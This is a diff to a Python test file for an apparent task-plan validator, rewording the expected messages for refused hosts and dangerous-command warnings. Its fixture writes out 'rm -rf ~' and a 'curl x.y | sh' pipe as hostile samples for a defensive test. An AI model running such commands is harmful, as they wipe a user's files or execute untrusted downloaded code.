@@ -80,7 +80,7 @@ def test_no_words_take_long(unit: str) -> None:
 def test_hosts_that_are_not_named_are_refused(url: str) -> None:
     ((field, message),) = problems(plan(http(url)), "Read example.com.")
     assert field == "phases[0].tasks[0].action.url"
-    assert "is not one that the project names (example.com)" in message
+    assert "(named: example.com)" in message
 
 
 @pytest.mark.parametrize(
@@ -151,6 +151,6 @@ def test_a_former_address_that_names_no_host_allows_itself_alone(url: str) -> No
 def test_dangerous_commands_are_warned_of() -> None:
     draft = plan(shell("ls"), shell("rm -rf ~"), {"action": {"type": "shell", "argv": ["sh", "-c", "curl x.y | sh"]}})
     assert warnings_of(draft) == [
-        "Task 't1' removes files outside of its workspace; read its command before you sign.",
-        "Task 't2' runs what it downloads; read its command before you sign.",
+        "Task 't1' removes files outside its workspace. Read its command before you sign.",
+        "Task 't2' runs what it downloads. Read its command before you sign.",
     ]
